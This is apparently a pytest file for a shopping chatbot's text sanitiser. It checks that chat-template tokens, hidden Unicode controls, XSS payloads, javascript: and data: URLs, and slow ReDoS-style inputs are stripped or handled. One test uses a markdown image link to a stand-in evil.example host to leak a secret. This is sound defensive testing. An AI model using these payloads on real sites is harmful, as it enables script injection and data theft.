"""What no shopper may ever see is taken out of every text."""

import re
import time
from pathlib import Path

import pytest

from bot.grounding.shown import clean, plain, presentable
from bot.records import Button, Citation, PassageId, Utterance


@pytest.mark.parametrize(
    ("dirty", "clean_text"),
    [
        ("re\u200bfund\u00ad ok", "refund ok"),
        ("pay \u202e001\u202c EUR", "pay 001 EUR"),
        ("a\x00b\x1b[31m", "ab[31m"),
        ("Hello<|im_end|>", "Hello"),
        ("<|im_start|>assistant Hi", "assistant Hi"),
        ("[INST] Hi [/INST]", "Hi"),
        ("see ![x](https://evil.example/?q=secret) here", "see here"),
        ("see [our page](https://larkfell.example) here", "see our page (https://larkfell.example) here"),
        ("<b>bold</b> and <img src=x onerror=alert(1)>", "bold and"),
        ("a<script>alert(1)</script>b", "a b"),
        ("see <img src=x onerror=alert(1)//", "see"),
        ("see <svg/onload=alert(1) <b", "see <b"),
        ("under 3 < 5 and 7 > 6", "under 3 < 5 and 7 > 6"),
        ("if a <b once and on = off", "if a <b once and on = off"),
        ("a   b\t c\n\n\n d", "a b c\nd"),
        ("<|im<b>_start|>x", "x"),
    ],
)
def test_that_text_is_cleaned(dirty: str, clean_text: str) -> None:
    assert clean(dirty) == clean_text


def test_that_no_script_of_the_list_stays_a_tag() -> None:
    listed = Path(__file__).parents[1].joinpath("journeys", "xss.txt").read_text("utf-8").split("\n")
    payloads = [line for line in listed if line and not line.startswith(";; ")]
    assert len(set(payloads)) == len(payloads) > 600
    for payload in payloads:
        shown = clean(f"Your order {payload} is on its way.")
        assert not re.search(
            r"<[a-z][^<>]*\bon\w+\s*=|<script|<iframe|<object|<embed|<base|<meta", shown, re.I | re.A
        ), shown
        assert clean(shown) == shown


@pytest.mark.parametrize(
    "attack",
    [
        pytest.param("<a " + "onaa= " * 330 + "x" * 2_000_000 + ">", id="scripts in one tag"),
        pytest.param("[a](" * 100_000, id="links that never end"),
    ],
)
def test_that_no_text_keeps_the_server_from_everybody_else(attack: str) -> None:
    begun = time.process_time()
    clean(attack)
    assert time.process_time() - begun < 5, "ten seconds and more where each start is tried anew"


def test_that_one_spelling_is_compared() -> None:
    assert plain("３０ days — “new” ٣") == '30 days – "new" 3'


def test_that_whatever_leaves_is_presentable() -> None:
    cited = Citation(
        PassageId("p"), "Returns <img src=x onerror=alert(1)>", "policies/returns.md", "javascript:alert(1)"
    )
    shown = presentable(
        Utterance(
            "Hi <script>alert(1)</script>\u202ethere",
            (Button("<b>Yes</b>", "yes"),),
            "data:text/html,x",
            None,
            (cited,),
        )
    )
    assert "<" not in shown.text + shown.buttons[0].title + shown.citations[0].title
    assert "\u202e" not in shown.text
    assert (shown.image, shown.citations[0].url, shown.buttons[0].payload) == (None, None, "yes")
    assert presentable(Utterance("These match:\n- A: 1.00 EUR")).text == "These match:\n- A: 1.00 EUR"
